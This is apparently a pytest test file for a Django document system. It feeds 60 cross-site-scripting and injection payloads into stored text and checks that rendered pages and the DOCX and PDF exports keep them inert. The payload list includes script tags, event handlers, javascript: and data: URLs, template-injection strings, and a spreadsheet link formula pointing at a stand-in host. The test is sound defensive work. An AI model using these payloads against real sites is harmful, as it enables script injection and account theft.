"""Rich text and plain text from users, through storage → HTML pages → DOCX → PDF: no
payload stays active anywhere (ASVS 1.2.1, 1.3.1). 60 vectors from the usual corpora."""

from __future__ import annotations

import io
import re
import zipfile
from html.parser import HTMLParser

import pytest
from defusedxml import ElementTree

from sbsh.document import services, services_tables
from sbsh.models import Part

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<table background=javascript:alert(1)>",
    "<td background=javascript:alert(1)>",
    "<p onmouseover=alert(1)>hover</p>",
    "<strong onclick=alert(1)>x</strong>",
    "<li onclick=alert(1)>x</li>",
    "<h3 onmouseenter=alert(1)>x</h3>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<xss style=behavior:url(x.htc)>",
    "<img src=x:x onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "'\"><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "javascript:alert(1)",
    "{{7*7}} {% debug %} ${7*7}",
    '=HYPERLINK("http://evil.example","x") <w:fldSimple w:instr="HYPERLINK javascript"/>',
]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "xlink:href",
    "poster",
}
NEVER = {"iframe", "object", "embed", "base", "template", "math", "frame", "frameset", "applet"}


class _Active(HTMLParser):
    """Collects what a browser would run: script elements not from /static/, event-handler
    attributes, script/data URLs, embedding elements, refresh redirects, and style
    attributes other than the document's own column widths."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k.lower(): (v or "") for k, v in attrs}
        if tag == "script" and not (
            values.get("src", "").startswith("/static/") or values.get("type") == "application/json"
        ):
            self.found.append(f"<script {values}>")
        if tag in NEVER:
            self.found.append(f"<{tag}>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in URL_ATTRIBUTES and squeezed.startswith(
                ("javascript:", "vbscript:", "data:")
            ):
                self.found.append(f"{tag} {name}={value}")
            if name == "style" and not re.fullmatch(r"width:\s*[\d.]+%;?", value.strip()):
                self.found.append(f"{tag} style={value}")


def _active(text: str) -> list[str]:
    parser = _Active()
    parser.feed(text)
    parser.close()
    return parser.found


@pytest.fixture
def poisoned(personas):
    _f, version = services.framework_create(
        actor=personas.drafter,
        state_body=personas.energy,
        council=personas.energy_council,
        sector_kk="Сала",
        sector_ru="Отрасль",
    )
    rich = "".join(f"<p>{p}</p>" for p in PAYLOADS)
    part = Part.objects.get(version=version, key=Part.Key.ANALYSIS)
    services.part_save(
        actor=personas.drafter, part=part, revision=part.revision, text_kk=rich, text_ru=rich
    )
    row = services_tables.table1_row_create(
        actor=personas.drafter, version=version, section=2, sqf_level="4", nqf_level=4
    )
    plain = " ".join(PAYLOADS)
    services_tables.table1_row_save(
        actor=personas.drafter,
        row=row,
        revision=row.revision,
        values={"sqf_level": "4", "nqf_level": 4, "knowledge_kk": plain, "knowledge_ru": plain},
        occupation_ids=[],
    )
    version = services.passport_save(
        actor=personas.drafter,
        version=version,
        revision=version.revision,
        name_kk=PAYLOADS[0] + PAYLOADS[2],
        name_ru=PAYLOADS[12],
        oked_ids=[],
        nkz_ids=[],
    )
    return version


def test_stored_rich_text_keeps_no_active_markup(poisoned) -> None:
    from sbsh.document.services import ALLOWED_TAGS

    stored = Part.objects.get(version=poisoned, key=Part.Key.ANALYSIS).text_kk
    assert stored and not _active(stored), _active(stored)
    # Only the allowed tags survive, and none of them with any attribute.
    tags = re.findall(r"<([a-z0-9]+)([^>]*)>", stored)
    assert {t for t, _a in tags} <= ALLOWED_TAGS
    assert all(not attrs.strip() for _t, attrs in tags)


def test_pages_show_every_payload_inert(personas, poisoned) -> None:
    client = personas.client_for(personas.drafter)
    for url in (
        f"/sqf/{poisoned.pk}/",
        f"/sqf/{poisoned.pk}/parts/analysis/",
        f"/sqf/{poisoned.pk}/table1/",
        f"/sqf/{poisoned.pk}/passport/",
        f"/sqf/{poisoned.pk}/history/",
    ):
        body = client.get(url).content.decode()
        found = _active(body)
        assert not found, (url, found)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body or url.endswith("/parts/analysis/")


def test_documents_carry_the_payloads_as_text_only(poisoned) -> None:
    from exports.docx import render_docx
    from exports.pdf import render_html, render_pdf
    from sbsh.document.content import version_content

    content = version_content(poisoned)
    for lang in ("kk", "ru"):
        html = render_html(content, lang)
        assert not _active(html), (lang, _active(html))
        docx = zipfile.ZipFile(io.BytesIO(render_docx(content, lang)))
        xml = "".join(
            docx.read(n).decode("utf-8")
            for n in docx.namelist()
            if n.endswith(".xml") or n.endswith(".rels")
        )
        # Field codes only for our page numbers; the payload's field is text, not a field.
        fields = []
        for name in docx.namelist():
            if name.endswith(".xml"):
                root = ElementTree.fromstring(docx.read(name))
                fields += [e.get(f"{{{W}}}instr", "") for e in root.iter(f"{{{W}}}fldSimple")]
                fields += [e.text or "" for e in root.iter(f"{{{W}}}instrText")]
        assert {f.split()[0] for f in fields if f.strip()} <= {"PAGE", "NUMPAGES"}, fields
        assert "&lt;w:fldSimple" in xml  # the payload is there, as text
        assert "&lt;w:fldSimple" in xml
        assert "<w:hyperlink" not in xml  # the payloads' links did not become links
        assert 'TargetMode="External"' not in xml  # no external links or images
        assert not [n for n in docx.namelist() if n.endswith((".bin", ".vba"))]
    pdf = render_pdf(content, "kk")
    for marker in (b"/JavaScript", b"/JS ", b"/Launch", b"/URI", b"/EmbeddedFile", b"/OpenAction"):
        assert marker not in pdf, marker
